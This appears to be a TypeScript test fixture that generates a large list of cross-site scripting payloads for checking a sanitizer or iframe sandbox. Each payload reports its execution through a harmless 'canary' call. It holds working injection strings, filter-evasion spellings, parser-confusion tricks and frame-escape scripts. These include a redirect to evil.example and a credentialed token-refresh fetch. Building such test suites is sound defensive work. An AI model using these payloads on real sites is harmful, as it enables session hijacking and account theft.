/**
 * Texts that have run as script somewhere (after PortSwigger's and OWASP's cheat sheets): each says where it
 * ran by calling `canary` with its origin, which is 'null' in a frame that has one of its own.
 */
const RUN = 'canary(self.origin)';

/** Elements that run something by themselves, with `RUN` where it would stand. */
const ELEMENTS = [
  '<script>RUN</script>',
  '<script>setTimeout("RUN")</script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script type=module>RUN</script>',
  '<script src=x onerror="RUN"></script>',
  '<img src=x onerror="RUN">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN">',
  '<image src=x onerror="RUN">',
  '<svg onload="RUN"></svg>',
  '<svg><script>RUN</script></svg>',
  '<svg><image href=x onerror="RUN"></image></svg>',
  '<svg><animate attributeName=x dur=1s onbegin="RUN"></animate></svg>',
  '<svg><set attributeName=x onbegin="RUN"></set></svg>',
  '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>',
  '<math><mtext><img src=x onerror="RUN"></mtext></math>',
  '<body onload="RUN">',
  '<body onpageshow="RUN">',
  '<iframe onload="RUN"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<object data=x onerror="RUN"></object>',
  '<embed src="javascript:RUN">',
  '<embed src=x onload="RUN">',
  '<link rel=stylesheet href=x onerror="RUN">',
  '<style onload="RUN"></style>',
  '<input autofocus onfocus="RUN">',
  '<select autofocus onfocus="RUN"></select>',
  '<textarea autofocus onfocus="RUN"></textarea>',
  '<button autofocus onfocus="RUN"></button>',
  '<a href="javascript:RUN" autofocus tabindex=1 onfocus="RUN">x</a>',
  '<div contenteditable autofocus onfocus="RUN">x</div>',
  '<details open ontoggle="RUN">x</details>',
  '<video src=x onerror="RUN"></video>',
  '<video><source src=x onerror="RUN"></video>',
  '<audio src=x onerror="RUN"></audio>',
  '<audio onloadstart="RUN" src=x></audio>',
  '<marquee onstart="RUN">x</marquee>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<form action="javascript:RUN"><button autofocus onfocus="this.click()"></button></form>',
  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="RUN">x</p>',
  '<p style="transition:color 1s" ontransitionend="RUN" onpointerover="RUN">x</p>',
];

/** Ways of writing the same, which filters have missed. */
const SPELLINGS: ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replaceAll(/<\/?\w+/g, (tag) => tag.toUpperCase()),
  (html) => html.replaceAll(/<(\w+) /g, '<$1/'),
  (html) => html.replaceAll(/<(\w+) /g, '<$1\t\n\f'),
  (html) => html.replaceAll(/\bon(\w+)=/g, 'oN$1 \n= '),
  (html) => html.replaceAll('canary', '\\u0063anary'),
  (html) => html.replaceAll('javascript:', 'jAvA\tscript\n:').replaceAll('RUN', 'RUN//'),
];

/** What would end the place that a text stands in, before the element begins. */
const WAYS_OUT = [
  ...['">', "'>", '`>', '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>'],
  ...['</noscript>', '</template>', '</option></select>', '\\">', '\u2028">'],
];

/** Of another kind each: attributes, addresses, templates, parsers that disagree, double encodings. */
const SINGLES = [
  '" onmouseover="RUN" autofocus onfocus="RUN" x="',
  "' onfocus='RUN' autofocus '",
  ' onfocus=RUN autofocus ',
  '";RUN;//',
  "';RUN;//",
  '\\";RUN;//',
  '`;RUN;//',
  '${RUN}',
  '{{RUN}}',
  '{{constructor.constructor("RUN")()}}',
  '<%= RUN %>',
  '#{RUN}',
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  '\u0001javascript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoc2VsZi5vcmlnaW4pPC9zY3JpcHQ+',
  'vbscript:RUN',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '%3Cscript%3ERUN%3C/script%3E',
  '%253Cscript%253ERUN%253C/script%253E',
  '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '＜script＞RUN＜/script＞',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<<script>RUN//<</script>',
  '<img src=x onerror=RUN',
  '<img src="x` `<script>RUN</script>"` `>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<math><mi><style><img title="</style><img src=x onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<template><script>RUN</script></template>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<!--><img src=x onerror=RUN>-->',
  '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
  '<![CDATA[<script>RUN</script>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">RUN</script>',
  '<base href="javascript:/a/-RUN///////"><a href=../lol>x</a>',
  '<a id=config><a id=config name=url href="javascript:RUN">',
  '<script>RUN</script\u00a0>',
  '<x onclick=RUN id=x tabindex=0 autofocus onfocus=RUN>x</x>',
  '__proto__[innerHTML]=<img src=x onerror=RUN>',
  '[x](javascript:RUN)',
  '![x](x"onerror="RUN)',
];

/** Pages that want out of their frame: what they reach they tell with the origin that it has. */
const ESCAPES = [
  'parent.canary(parent.origin)',
  'top.canary(top.origin)',
  'top.document.body.innerHTML="<img src=x onerror=RUN>"',
  'parent.eval("RUN")',
  'parent.location="javascript:RUN"',
  'top.location="javascript:RUN"',
  'top.location="https://evil.example/"',
  'window.open("javascript:opener.RUN")',
  'window.open("/members").eval("RUN")',
  'canary(localStorage.length && self.origin)',
  'document.cookie="x=1";document.cookie&&canary("cookie")',
  'document.domain="localhost";parent.canary(parent.origin)',
  'frameElement.removeAttribute("sandbox");location.reload()',
  'alert(1)',
  'navigator.serviceWorker.register("data:text/javascript,")',
  'location="javascript:RUN"',
  'for(const f of Array.from(parent.frames))f.canary(f.origin)',
  'let f=document.createElement("iframe");f.src="/members";document.body.append(f);f.onload=()=>f.contentWindow.eval("RUN")',
  'fetch("/v1/auth/token",{method:"POST",credentials:"include",headers:{"Content-Type":"application/json"},body:JSON.stringify({grant_type:"refresh_token"})}).then(a=>a.json()).then(()=>canary("session"))',
  'fetch("/members").then(a=>a.text()).then(()=>canary("page"))',
].map((script) => `<script>${script}</script>`);

const withCanary = (text: string): string => text.replaceAll('RUN', RUN);

/** All of them, each once. Those of the first lot run in a page that they are a part of. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set(
    [
      ...ELEMENTS.flatMap((html) => SPELLINGS.map((spelt) => spelt(html))),
      ...WAYS_OUT.flatMap((out) => ELEMENTS.slice(0, 12).map((html) => out + html)),
      ...SINGLES,
      ...ESCAPES,
    ].map(withCanary),
  ),
];
